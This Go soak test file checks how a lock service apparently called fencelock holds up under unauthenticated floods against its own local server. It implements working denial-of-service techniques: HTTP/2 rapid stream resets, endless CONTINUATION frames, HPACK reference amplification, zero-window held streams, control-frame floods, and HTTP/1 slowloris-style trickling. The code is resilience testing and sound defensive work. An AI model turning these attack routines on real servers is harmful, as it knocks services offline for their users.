//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/fencelock/fencelock/api/wire"
	"github.com/fencelock/fencelock/internal/testenv"
)

// The highest cost of requests without credentials, however they are sent: over 300 connections, for ten seconds.
const (
	floodConns     = 300
	floodTime      = 10 * time.Second
	floodMostBytes = 200 << 20
	floodSlowest   = 250 * time.Millisecond // honest callers' 99th percentile
	floodStreams   = 250                    // that an attacker tries to open on each connection
)

// The attacker runs in a process of its own, so that honest callers do not wait for its goroutines.
const (
	floodName   = "FENCELOCK_TEST_FLOOD"
	floodTarget = "FENCELOCK_TEST_FLOOD_TARGET"
)

// TestSoakFloods measures the cost of strangers who never authenticate. The attacker and other programs share this
// machine's processors with the server. So the same callers also use a second server that nobody attacks, at the same
// time: the time that they wait there is not caused by the flood.
func TestSoakFloods(t *testing.T) {
	testenv.Soak(t, "a flood that keeps other callers from the service")
	if name := os.Getenv(floodName); name != "" {
		fmt.Println(attack(name, os.Getenv(floodTarget)))
		return
	}
	for _, f := range floods() {
		t.Run(f.name, func(t *testing.T) {
			got := flood(t, f.name)
			t.Logf("%d MB (%d in the kernel), %s of processors, for which it waited %s; p99 of honest callers %s in %d pairs (%s at a server without a flood); %d requests or connections of the attacker",
				got.peak>>20, got.queued>>20, got.cpu, got.starved.Round(time.Millisecond), got.p99, got.pairs, got.calm, got.attacks)
			if got.peak > floodMostBytes {
				t.Errorf("%d MB resident, more than %d", got.peak>>20, floodMostBytes>>20)
			}
			if got.p99 > floodSlowest+got.calm {
				t.Errorf("p99 of honest callers is %s, and %s at a server without a flood; on %d processors the server waited for one for %s", got.p99, got.calm, runtime.NumCPU(), got.starved)
			}
		})
	}
}

// attacker is one of the connections of a flood.
type attacker struct {
	net.Conn
	ctx   context.Context
	count *atomic.Int64
}

// floods are the kinds of requests without credentials that have cost the most. An attack ends with its connection,
// and is then started again.
func floods() []struct {
	name   string
	attack func(*attacker)
} {
	body := func(streams uint32, header int, method, path string) func(*attacker) {
		return func(a *attacker) { a.heldStreams(streams, header, method, path) }
	}
	reset := func(streams int) func(*attacker) {
		return func(a *attacker) { a.resetStreams(streams) }
	}
	frames := func(write func(*http2.Framer) error) func(*attacker) {
		return func(a *attacker) { a.frames(write) }
	}
	return []struct {
		name   string
		attack func(*attacker)
	}{
		{"h2, posts that trickle and read nothing", body(floodStreams, 0, "POST", "/locks")},
		{"h2, posts with large headers", body(floodStreams, 30_000, "POST", "/locks")},
		{"h2, pages that nobody reads", body(floodStreams, 0, "GET", "/openapi.yaml")},
		{"h2, pages with large headers", body(floodStreams, 30_000, "GET", "/openapi.yaml")},
		{"h2, pages into wide windows that nobody reads", (*attacker).unreadStreams},
		{"h2, large frames", (*attacker).largeFrames},
		{"h2, headers without an end", (*attacker).endlessHeaders},
		{"h2, streams that are reset at once", reset(math.MaxInt)},
		{"h2, streams that are reset at once, and then the connection", reset(50)},
		{"h2, pings", frames(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) })},
		{"h2, settings", frames(func(f *http2.Framer) error { return f.WriteSettings() })},
		{"h2, priorities", frames(func(f *http2.Framer) error { return f.WritePriority(1, http2.PriorityParam{Weight: 1}) })},
		{"h2, windows", frames(func(f *http2.Framer) error { return f.WriteRawFrame(http2.FrameWindowUpdate, 0, 1, []byte{0, 0, 0, 1}) })},
		{"h2, data without bytes", frames(func(f *http2.Framer) error { return f.WriteData(1, false, nil) })},
		{"h2, continuations without bytes", (*attacker).emptyContinuations},
		{"h2, a header by references", (*attacker).references},
		{"h1, posts that trickle", (*attacker).slowPost},
		{"h1, pages that nobody reads", (*attacker).unreadPages},
		{"h1, headers that trickle", (*attacker).slowHeader},
		{"h1, as fast as it goes", (*attacker).fast},
	}
}

// flooded is the result of a flood.
type flooded struct {
	peak      int64         // resident bytes, and those that wait in the kernel
	queued    int64         // of them, in the kernel
	cpu       time.Duration // of the server
	starved   time.Duration // for which the server's threads waited for a processor
	p99, calm time.Duration // here, and at the server that nobody attacks
	pairs     int
	attacks   int64
}

func flood(t *testing.T, name string) (got flooded) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "access.txt")
	honest := bearer(tokenFor(t, file, "honest", "--acquire", "*"))
	startOne := func() *process {
		return start(t, "FENCELOCK_ACCESS_FILE="+file, "FENCELOCK_DATA="+filepath.Join(t.TempDir(), "fencelock.db"))
	}
	p, beside := startOne(), startOne()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	attacker := exec.CommandContext(t.Context(), self, "-test.run=^TestSoakFloods$")
	attacker.Env = append(os.Environ(), floodName+"="+name, floodTarget+"="+strings.TrimPrefix(p.url, "http://"))
	var out testenv.Buffer
	attacker.Stdout = &out
	if err := attacker.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan error, 1)
	go func() { ended <- attacker.Wait(); stop() }()
	var queued atomic.Int64
	var watching sync.WaitGroup
	watching.Go(func() { p.watchQueues(ctx, &queued) })
	var times, calm []time.Duration
	for ctx.Err() == nil {
		times = append(times, p.honestPair(honest, len(times)))
		calm = append(calm, beside.honestPair(honest, len(calm)))
	}
	watching.Wait()
	if err := <-ended; err != nil {
		t.Fatalf("the attacker: %v\n%s", err, &out)
	}
	got = flooded{peak: p.peak() + queued.Load(), queued: queued.Load(), cpu: p.cpu(), starved: p.starved(), pairs: len(times), p99: slowest(times), calm: slowest(calm)}
	if _, err := fmt.Sscan(out.String(), &got.attacks); err != nil || got.attacks < floodConns {
		t.Fatalf("the attacker did %d: %v\n%s", got.attacks, err, &out)
	}
	return got
}

// slowest returns the 99th percentile.
func slowest(times []time.Duration) time.Duration {
	slices.Sort(times)
	return times[len(times)*99/100]
}

// honestPair returns half of the time that a caller waits for an acquire and a release.
func (p *process) honestPair(credentials string, number int) time.Duration {
	p.t.Helper()
	begun := time.Now()
	var lease wire.Lease
	p.insist(&lease, "POST", "/locks", `{"resource":"r","ttl_ms":60000}`, credentials, fmt.Sprint("Idempotency-Key: ", number))
	p.insist(nil, "DELETE", "/leases/current", "", credentials, wire.HeaderLease+": "+lease.LeaseID)
	return time.Since(begun) / 2
}

// attack runs the flood of that name against a server, and reports how much it sent.
func attack(name, target string) int64 {
	ctx, stop := context.WithTimeout(context.Background(), floodTime)
	defer stop()
	var count atomic.Int64
	var attackers sync.WaitGroup
	for _, f := range floods() {
		for range floodConns {
			if f.name != name {
				break
			}
			attackers.Go(func() {
				for ctx.Err() == nil {
					strike(ctx, target, &count, f.attack)
				}
			})
		}
	}
	attackers.Wait()
	return count.Load()
}

// insist repeats a request that an overloaded server cannot serve; that counts as slow. The first request may have
// taken effect.
func (p *process) insist(v any, method, path, body string, header ...string) {
	p.t.Helper()
	for again := false; ; again = true {
		resp, err := p.try(p.t.Context(), v, method, path, body, header...)
		switch {
		case err == nil && (resp.StatusCode < 300 || again && method == "DELETE" && resp.StatusCode == http.StatusNotFound):
			return
		case p.t.Context().Err() != nil, err == nil && resp.StatusCode != http.StatusServiceUnavailable:
			p.t.Fatalf("%s %s: %v, %v", method, path, resp, err)
		}
	}
}

// strike attacks over one connection until it is closed, or the flood ends.
func strike(ctx context.Context, address string, count *atomic.Int64, attack func(*attacker)) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	_ = conn.(*net.TCPConn).SetWriteBuffer(64 << 10) // else gigabytes wait on the attacker's side of this machine
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	attack(&attacker{Conn: conn, ctx: ctx, count: count})
}

// peak is the most memory that the server has had, in bytes.
func (p *process) peak() int64 {
	p.t.Helper()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", p.PID()))
	if err != nil {
		p.t.Fatal(err)
	}
	_, rest, _ := strings.Cut(string(status), "VmHWM:")
	kilobytes, err := strconv.ParseInt(strings.Fields(rest)[0], 10, 64)
	if err != nil {
		p.t.Fatal(err)
	}
	return kilobytes << 10
}

// starved returns for how long the server's threads have been ready to run and had no processor.
func (p *process) starved() (all time.Duration) {
	p.t.Helper()
	threads, err := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/schedstat", p.PID()))
	if err != nil {
		p.t.Fatal(err)
	}
	for _, path := range threads {
		var ran, waited int64
		text, err := os.ReadFile(path)
		if err == nil {
			_, err = fmt.Sscan(string(text), &ran, &waited)
		}
		if err != nil && !errors.Is(err, os.ErrNotExist) { // a thread may have ended
			p.t.Fatal(err)
		}
		all += time.Duration(waited)
	}
	return all
}

// watchQueues notes the largest number of bytes that wait in the server's sockets, unread by the server or its
// clients.
func (p *process) watchQueues(ctx context.Context, most *atomic.Int64) {
	_, port, _ := strings.Cut(strings.TrimPrefix(p.url, "http://"), ":")
	number, _ := strconv.ParseUint(port, 10, 16)
	local := fmt.Sprintf(":%04X", number)
	for ctx.Err() == nil {
		table, err := os.ReadFile("/proc/net/tcp")
		if err != nil {
			p.t.Error(err)
			return
		}
		var bytes int64
		for line := range strings.Lines(string(table)) {
			words := strings.Fields(line) // sl, local address, remote address, state, queues
			if !strings.HasSuffix(words[1], local) {
				continue
			}
			for queue := range strings.SplitSeq(words[4], ":") {
				n, _ := strconv.ParseInt(queue, 16, 64)
				bytes += n
			}
		}
		most.Store(max(most.Load(), bytes))
		select {
		case <-ctx.Done():
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// pause waits a moment. It returns false when the flood has ended.
func (a *attacker) pause(d time.Duration) bool {
	select {
	case <-a.ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// h2 starts HTTP/2, with a flow-control window for responses, and reads what the server sends.
func (a *attacker) h2(window uint32) *http2.Framer {
	_, _ = io.WriteString(a, http2.ClientPreface)
	f := http2.NewFramer(a, bufio.NewReader(a))
	f.AllowIllegalWrites = true
	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	return f
}

// fields returns a request's header, padded to about n bytes.
func fields(method, path string, size int) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{
		{":method", method}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}, {"content-type", "application/json"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	const most = 3000 // of a field, so that frames stay small
	for i := 0; size > 0; i, size = i+1, size-most {
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: strings.Repeat("x", min(most, size)), Sensitive: true})
	}
	return block.Bytes()
}

// open opens a stream, with as many frames as its header needs.
func (a *attacker) open(f *http2.Framer, id uint32, block []byte, end bool) error {
	const frame = 16 << 10
	first := block[:min(frame, len(block))]
	block = block[len(first):]
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: end, EndHeaders: len(block) == 0})
	for err == nil && len(block) > 0 {
		next := block[:min(frame, len(block))]
		block = block[len(next):]
		err = f.WriteContinuation(id, len(block) == 0, next)
	}
	a.count.Add(1)
	return err
}

// heldStreams keeps as many streams open as it can. No response fits into their windows, and it opens a new stream
// for each that the server ends.
func (a *attacker) heldStreams(streams uint32, header int, method, path string) {
	f := a.h2(0)
	block := fields(method, path, header)
	var next, open atomic.Uint32
	next.Store(1)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				return
			}
			if _, reset := frame.(*http2.RSTStreamFrame); reset {
				open.Add(^uint32(0))
			}
		}
	}()
	for a.ctx.Err() == nil {
		for open.Load() < streams {
			if a.open(f, next.Add(2)-2, block, method == "GET") != nil {
				return
			}
			open.Add(1)
		}
		if method == "POST" { // a byte for one of them
			_ = f.WriteData(next.Load()-2, false, []byte("{"))
		} else if f.WritePing(true, [8]byte{}) != nil {
			return
		}
		select {
		case <-ended:
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// largeFrames sends bodies in frames of a megabyte.
func (a *attacker) largeFrames() {
	f := a.h2(0)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	if a.open(f, 1, fields("POST", "/locks", 0), false) != nil {
		return
	}
	_, _ = a.Write([]byte{0x0f, 0xff, 0xff, 0, 0, 0, 0, 0, 1}) // DATA of 2^20-1 bytes
	chunk := make([]byte, 64<<10)
	for sent := 0; sent < 1<<20-1-len(chunk); sent += len(chunk) {
		if _, err := a.Write(chunk); err != nil {
			return
		}
	}
	for a.pause(time.Second) { // and does not end the last one
		if _, err := a.Write([]byte{0}); err != nil {
			return
		}
	}
}

// endlessHeaders never ends the header of its first stream.
func (a *attacker) endlessHeaders() {
	f := a.h2(0)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields("POST", "/locks", 15_000)})
	more := fields("POST", "/locks", 3000)[len(fields("POST", "/locks", 0)):]
	for f.WriteContinuation(1, false, more) == nil && a.pause(10*time.Millisecond) { // 80 MB/s over all
		a.count.Add(1)
	}
}

// resetStreams opens streams and resets each in the same write, so that they never count
// as concurrent.
func (a *attacker) resetStreams(most int) {
	f := a.h2(1 << 20)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	var batch bytes.Buffer
	into := http2.NewFramer(&batch, nil)
	block := fields("POST", "/locks", 0)
	for id := uint32(1); most > 0 && a.ctx.Err() == nil && id < 1<<30; {
		batch.Reset()
		for range min(most, 100) {
			_ = into.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
			_ = into.WriteRSTStream(id, http2.ErrCodeCancel)
			id, most = id+2, most-1
			a.count.Add(1)
		}
		if _, err := a.Write(batch.Bytes()); err != nil {
			return
		}
	}
	_ = f.WriteGoAway(0, http2.ErrCodeNo, nil)
}

// frames sends frames that open no stream, while one stream stays open.
func (a *attacker) frames(write func(*http2.Framer) error) {
	f := a.h2(1 << 20)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	if a.open(f, 1, fields("POST", "/locks", 0), false) != nil {
		return
	}
	var batch bytes.Buffer
	into := http2.NewFramer(&batch, nil)
	into.AllowIllegalWrites = true
	for range 1000 {
		_ = write(into)
	}
	for {
		if _, err := a.Write(batch.Bytes()); err != nil {
			return
		}
		a.count.Add(1000)
	}
}

// emptyContinuations never ends a header, and adds nothing to it.
func (a *attacker) emptyContinuations() {
	f := a.h2(0)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields("POST", "/locks", 0)})
	more := bytes.Repeat([]byte{0, 0, 0, byte(http2.FrameContinuation), 0, 0, 0, 0, 1}, 1000)
	for {
		if _, err := a.Write(more); err != nil {
			return
		}
		a.count.Add(1000)
	}
}

// references opens streams whose header names a field of four kilobytes again and again, by one byte each.
func (a *attacker) references() {
	f := a.h2(0)
	go func() { _, _ = io.Copy(io.Discard, a) }()
	var block bytes.Buffer
	block.Write(fields("POST", "/locks", 0))
	large := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 4000)}
	_ = hpack.NewEncoder(&block).WriteField(large)
	const newest = 0x80 | 62 // the first entry of the dynamic table
	block.Write(bytes.Repeat([]byte{newest}, 12_000))
	for id := uint32(1); a.open(f, id, block.Bytes(), true) == nil; {
		id += 2
	}
}

// unreadStreams asks for the longest page on many streams. The windows have room for all of it, but it reads nothing.
func (a *attacker) unreadStreams() {
	_ = a.Conn.(*net.TCPConn).SetReadBuffer(1)
	f := a.h2(1<<31 - 1)
	_ = f.WriteWindowUpdate(0, 1<<30)
	block := fields("GET", "/openapi.yaml", 0)
	for id := uint32(1); id < 2*floodStreams && a.open(f, id, block, true) == nil; id += 2 {
	}
	<-a.ctx.Done()
}

func (a *attacker) slowPost() {
	_, _ = io.WriteString(a, "POST /locks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{")
	a.count.Add(1)
	for a.pause(100 * time.Millisecond) {
		if _, err := io.WriteString(a, " "); err != nil {
			return
		}
	}
}

func (a *attacker) slowHeader() {
	_, _ = io.WriteString(a, "POST /locks HTTP/1.1\r\nHost: localhost\r\nX-Long: "+strings.Repeat("x", 30_000))
	a.count.Add(1)
	for a.pause(100 * time.Millisecond) {
		if _, err := io.WriteString(a, "x"); err != nil {
			return
		}
	}
}

// unreadPages asks for the longest page again and again, and reads nothing.
func (a *attacker) unreadPages() {
	_ = a.Conn.(*net.TCPConn).SetReadBuffer(1)
	for range 1000 {
		if _, err := io.WriteString(a, "GET /openapi.yaml HTTP/1.1\r\nHost: localhost\r\n\r\n"); err != nil {
			return
		}
		a.count.Add(1)
	}
	<-a.ctx.Done()
}

// fast sends requests that are refused, one after the other.
func (a *attacker) fast() {
	answers := bufio.NewReader(a)
	for {
		_, err := io.WriteString(a, "POST /locks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"resource\":\"r\"}")
		if err != nil {
			return
		}
		resp, err := http.ReadResponse(answers, nil)
		if err != nil {
			return
		}
		a.count.Add(1)
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
	}
}
